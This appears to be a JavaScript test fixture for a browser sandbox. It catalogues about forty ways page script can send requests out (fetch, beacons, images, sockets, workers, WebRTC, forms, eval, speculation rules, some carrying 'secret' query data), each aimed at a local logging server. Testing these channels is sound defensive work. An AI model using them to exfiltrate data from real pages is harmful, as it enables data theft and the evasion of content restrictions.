// Every known way for a page to send something, as text to run in it. `away` is another host, `own`
// the page's folder on its own host; each leaves a request with its name, or "secret", behind.

import dgram from "node:dgram";
import http from "node:http";

const link = (properties) =>
  `{ const a = Object.assign(document.createElement("a"), ${properties}); document.body.append(a); a.click(); }`;
const inHead = (tag, properties) =>
  `document.head.append(Object.assign(document.createElement("${tag}"), ${properties}))`;

export const waysOut = (away, own, stun) => ({
  fetch: `fetch("${away}/fetch", { mode: "no-cors" })`,
  xhr: `{ const x = new XMLHttpRequest(); x.open("GET", "${away}/xhr"); x.send(); }`,
  beacon: `navigator.sendBeacon("${away}/beacon", "d")`,
  image: `new Image().src = "${away}/image"`,
  socket: `new WebSocket("${away.replace("http", "ws")}/socket")`,
  events: `new EventSource("${away}/events")`,
  script: inHead("script", `{ src: "${away}/script.js" }`),
  module: `import("${away}/module.js").catch(() => {})`,
  style: inHead("link", `{ rel: "stylesheet", href: "${away}/style.css" }`),
  background: `document.body.style.backgroundImage = "url(${away}/background)"`,
  font: `new FontFace("x", "url(${away}/font)").load().catch(() => {})`,
  prefetch: inHead("link", `{ rel: "prefetch", href: "${away}/prefetch" }`),
  preload: inHead("link", `{ rel: "preload", as: "image", href: "${away}/preload" }`),
  media: `document.body.append(Object.assign(document.createElement("video"), { src: "${away}/media" }))`,
  object: `document.body.append(Object.assign(document.createElement("object"), { data: "${away}/object" }))`,
  frame: `document.body.append(Object.assign(document.createElement("iframe"), { src: "${away}/frame" }))`,
  form: `{ const f = Object.assign(document.createElement("form"), { action: "${away}/form", method: "post" });
    document.body.append(f); f.submit(); }`,
  ping: link(`{ href: "#", ping: "${away}/ping" }`),
  workerByAddress: `new Worker("${own}worker.js")`,
  moduleWorkerByAddress: `new Worker("${own}worker.js", { type: "module" })`,
  workerOfText: `new Worker(URL.createObjectURL(new Blob(["fetch('${away}/workerOfText', { mode: 'no-cors' })"])))`,
  sharedWorker: `new SharedWorker("${own}worker.js")`,
  serviceWorker: `navigator.serviceWorker.register("${own}worker.js").catch(() => {})`,
  webrtc: `{ const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${stun}" }] });
    c.createDataChannel("x"); c.createOffer().then((offer) => c.setLocalDescription(offer)); }`,
  window: `window.open("${away}/window")`,
  location: `location.href = "${away}/location"`,
  ownLocation: `location.href = "${own}?d=secret-location"`,
  refresh: inHead("meta", `{ httpEquiv: "refresh", content: "0;url=${away}/refresh" }`),
  click: link(`{ href: "${away}/click" }`),
  download: link(`{ href: "${away}/download", download: "x" }`),
  speculation: `{ const s = document.createElement("script"); s.type = "speculationrules";
    s.textContent = '{"prefetch":[{"source":"list","urls":["${away}/speculation"]}]}'; document.head.append(s); }`,
  eval: `(0, eval)("fetch('${away}/eval', { mode: 'no-cors' })")`,
  markup: `document.body.insertAdjacentHTML("beforeend", "<img src='${away}/markup'>")`,
  ownFetch: `fetch("${own}?d=secret-fetch")`,
  ownImage: `new Image().src = "${own}icon.svg?d=secret-image"`,
  ownStyle: inHead("link", `{ rel: "stylesheet", href: "${own}x.css?d=secret-style" }`),
  ownModule: `import("${own}x.js?d=secret-module").catch(() => {})`,
});

/** Another host that writes down who comes, by the web or by a call. */
export async function stranger(t) {
  const visits = [];
  const web = http.createServer((request, response) => {
    visits.push(request.url);
    response.writeHead(200, { "access-control-allow-origin": "*" }).end();
  });
  web.on("upgrade", (request, socket) => {
    visits.push(request.url);
    socket.destroy();
  });
  const calls = dgram.createSocket("udp4");
  calls.on("message", () => visits.push("/webrtc"));
  await new Promise((resolve) => web.listen(0, "127.0.0.1", resolve));
  await new Promise((resolve) => calls.bind(0, "127.0.0.1", resolve));
  t.after(() => {
    web.close();
    web.closeAllConnections();
    calls.close();
  });
  return { visits, away: `http://127.0.0.1:${web.address().port}`, stun: calls.address().port };
}
